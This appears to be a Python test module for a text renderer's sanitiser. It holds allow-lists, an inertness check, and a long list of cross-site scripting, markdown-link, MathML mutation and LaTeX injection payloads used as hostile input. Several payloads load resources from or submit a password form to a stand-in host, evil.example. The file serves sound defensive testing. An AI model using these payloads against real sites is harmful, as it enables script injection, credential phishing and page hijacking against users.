"""Hostile text, and the proof that what is made of it is inert."""

from __future__ import annotations

import re

import lxml.html
from lxml import etree
from pygments.token import STANDARD_TYPES


def names(text: str) -> set[str]:
    return set(text.split())


HTML_TAGS = names(
    "div p br hr h1 h2 h3 h4 h5 h6 blockquote ul ol li pre code em strong s table thead tbody "
    "tr th td span section"
)
MATH_TAGS = names(
    "math mrow mstyle mtable mtr mtd msqrt mfrac mroot msub msup munder mover msubsup "
    "munderover mi mn mo mtext mspace"
)
MATH_ATTRIBUTES = names(
    "display accent displaystyle fence movablelimits separator stretchy form linethickness "
    "scriptlevel lspace rspace minsize maxsize width mathvariant"
)
OWN_CLASSES = names(
    "wb-text rendered source nothing formula code link image address boxed struck "
    "align-left align-right align-center "
    "wb-conversation wb-images turn turn-user turn-assistant turn-system turn-other role"
)
IMAGE_TAGS = names("figure img")
CLASSES = OWN_CLASSES | {name for name in STANDARD_TYPES.values() if name}


def parsed(html: str) -> etree._Element:
    element: etree._Element = lxml.html.fragment_fromstring(html, create_parent="main")
    return element


def assert_inert(html: str, *, has_images: bool = False) -> None:
    """Refuse whatever could act, load or lay itself over the page; images only where there are."""
    for element in parsed(html).iterdescendants():
        assert isinstance(element.tag, str), "a comment or a processing instruction"
        if has_images and element.tag in IMAGE_TAGS:
            assert_image(element)
            continue
        assert element.tag in HTML_TAGS | MATH_TAGS, element.tag
        for name, value in element.attrib.items():
            if name == "class":
                assert set(value.split()) <= CLASSES, value
            elif name == "dir":
                assert value in {"auto", "ltr"}
            elif name == "start":
                assert element.tag == "ol"
                assert value.isdigit()
            else:
                assert element.tag in MATH_TAGS, (element.tag, name)
                assert name in MATH_ATTRIBUTES, (element.tag, name)


def assert_image(element: etree._Element) -> None:
    assert set(element.attrib) <= {"src", "alt", "loading"}
    assert re.fullmatch("/images/[0-9a-f]{64}", element.get("src", f"/images/{'0' * 64}"))


HOSTILE = [
    "<script>parent.x=1</script>",
    "<scr<script>ipt>x</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<iframe srcdoc="<script>parent.x=1</script>"></iframe>',
    "<iframe src=javascript:alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="window.__pwned = true">',
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    '<form action="//evil.example"><input name=password type=password><button>Submit</button></form>',
    "<button onclick=alert(1)>A is much better</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><select><option>1</select>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<video src=//evil.example/x autoplay><audio src=x><source src=x>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  jAvAsCrIpT\n:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<p id=editor name=submit data-ready=1 contenteditable accesskey=x tabindex=0>x</p>",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!DOCTYPE html><html><head><body onload=alert(1)>",
    "</div></div></pre></textarea></title><script>alert(1)</script>",
    "</pre><script>alert(1)</script><pre>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype='statusline#//evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><semantics><mi>x</mi><annotation>y</annotation></semantics></math>",
    "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>",
    "<p title='</p><script>alert(1)</script>'>x",
    "<div <p <script <b",
    "<x-custom onclick=1><portal src=x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/v1/release)",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](http://e.example "onmouseover=alert(1)")',
    '[x](http://e.example/"onmouseover="alert(1))',
    "[a](http://e.example/<script>)",
    "![x](http://evil.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](http://e.example/"onerror="alert(1))',
    "[![x](http://evil.example/a.png)](http://evil.example)",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```python" onmouseover="alert(1)\nx\n```',
    "```<script>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|:-:|-:|\n| <img src=x onerror=alert(1)> | 2 |",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$\\style{position:fixed;inset:0}{x}$",
    "$\\class{wb-answer}{x}$ $\\id{editor}{x}$",
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "$\\color{red;background:url(//evil.example)}{x}$",
    "$\\rule{9999em}{9999em}$ $\\hspace{-999em}x$ $\\kern-999em x$",
    "$\\newcommand{\\a}{\\a\\a}\\a$",
    "$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\a$",
    "$\\require{html}\\cssId{x}{y}\\includegraphics{x}$",
    "$<script>alert(1)</script>$",
    "$$\n</math><script>alert(1)</script>\n$$",
    "\\[ \\begin{array}{<script>} x \\end{array} \\]",
    "\\(\\mathrm{<svg/onload=alert(1)>}\\)",
    "$\\verb|<script>alert(1)</script>|$",
    "\u202e<script>\u2066\u200b\ufeff\ue000",
    "＜script＞alert(1)＜/script＞",
    "\x00<scr\x00ipt>\x01\x0b\x7f",
    "\ud800<script>\udfff",
    "[x](http://e.example/\ud800)",
]
